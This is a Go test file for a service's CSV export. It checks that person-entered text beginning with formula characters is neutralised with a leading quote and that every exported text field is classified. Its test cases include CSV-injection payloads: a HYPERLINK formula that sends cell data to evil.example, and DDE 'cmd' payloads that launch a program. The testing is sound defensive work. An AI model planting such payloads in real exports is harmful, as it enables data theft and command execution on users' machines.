package queries

import (
	"bytes"
	"encoding/csv"
	"reflect"
	"slices"
	"strings"
	"testing"
)

// A person's text that a spreadsheet would run as a formula (OWASP's prefixes) is
// written quoted, after a single quote, whatever it looks like; every other cell reads
// back as it was, and a column the service writes (an amount) is never touched.
func TestCSVCellsNeverRunAsFormulas(t *testing.T) {
	for _, c := range []struct {
		field string
		line  string // how the field is written in a column of a person's text
		read  string // what a CSV reader reads back
	}{
		{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`},
		{"=1+1", `"'=1+1"`, "'=1+1"},
		{"+1+cmd|' /C calc'!A0", `"'+1+cmd|' /C calc'!A0"`, "'+1+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`, "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`, "'@SUM(1+1)*cmd|' /C calc'!A0"},
		{"\t=1+1", "\"'\t=1+1\"", "'\t=1+1"},
		{"\r=1+1", "\"'\r=1+1\"", "'\r=1+1"},
		{"  =1+1", `"'  =1+1"`, "'  =1+1"},
		{"-", `"'-"`, "'-"},
		// Text that looks like a number is text all the same: the column decides.
		{"-12.50", `"'-12.50"`, "'-12.50"},
		{"+52", `"'+52"`, "'+52"},
		// Other text is written as RFC 4180 says, and reads back unchanged.
		{"120.5", "120.5", "120.5"},
		{"Rent", "Rent", "Rent"},
		{"a=b", "a=b", "a=b"},
		{`Café, "the good one"`, `"Café, ""the good one"""`, `Café, "the good one"`},
		{" leading space", `" leading space"`, " leading space"},
		{"two\nlines", "\"two\nlines\"", "two\nlines"},
		{"", "", ""},
	} {
		var out bytes.Buffer
		columns := csvColumnsOf([]string{"amount", "concept", "balance"})
		columns.write(&out, []string{"-12.50", c.field, "+3"})
		if want := "-12.50," + c.line + ",+3\r\n"; out.String() != want {
			t.Errorf("%q is written %q, want %q", c.field, out.String(), want)
			continue
		}
		r := csv.NewReader(&out)
		r.LazyQuotes = false
		records, err := r.ReadAll()
		if err != nil {
			t.Errorf("%q: %v", c.field, err)
			continue
		}
		if want := []string{"-12.50", c.read, "+3"}; len(records) != 1 || !slices.Equal(records[0], want) {
			t.Errorf("%q reads back as %q, want %q", c.field, records, want)
		}
	}
}

// serviceText are the text fields of the export's records that the service writes
// itself (a type, a currency, a colour checked against its pattern, a status, a file's
// hash and media type, told from its content): never a
// person's free text, so never neutralised.
var serviceText = map[string]bool{"type": true, "currency": true, "cardColor": true, "color": true, "period": true,
	"kind": true, "periodicity": true, "role": true, "status": true, "sha256": true, "contentType": true}

// Every text field of every record the export writes is either a person's text,
// neutralised (peopleText), or one the service writes: a new field must be put in one
// of the two lists, so that free text is never left out by mistake. The report's
// columns of free text are in peopleText too.
func TestEveryCSVTextColumnIsDeclared(t *testing.T) {
	for _, table := range exportTables {
		rt := reflect.TypeOf(table.zero)
		for i := range rt.NumField() {
			field := rt.Field(i)
			name, _, _ := strings.Cut(field.Tag.Get("json"), ",")
			kind := field.Type
			if kind.Kind() == reflect.Pointer {
				kind = kind.Elem()
			}
			if !field.IsExported() || name == "" || name == "-" || kind.Kind() != reflect.String || kind.PkgPath() != "" {
				continue // not text, or a type of the domain's (a transaction's type, a date)
			}
			if peopleText[name] == serviceText[name] {
				t.Errorf("%s.%s: a text field neither in peopleText nor in serviceText", table.name, name)
			}
		}
	}
	for _, header := range []string{"concept", "description", "wallet", "category", "reference_number"} {
		if !slices.ContainsFunc(reportCSVColumns, func(c struct{ header, field string }) bool { return c.header == header }) || !peopleText[header] {
			t.Errorf("the report's column %s is not neutralised", header)
		}
	}
}
